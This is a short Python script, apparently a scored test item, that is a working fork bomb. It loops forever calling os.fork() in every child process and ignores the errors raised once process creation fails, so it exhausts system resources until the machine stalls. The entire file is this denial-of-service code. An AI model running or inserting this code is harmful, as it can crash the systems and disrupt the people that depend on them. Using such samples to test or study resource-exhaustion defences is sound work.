# Forks until it cannot any more, in every child too.
# points: 0 to 24
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
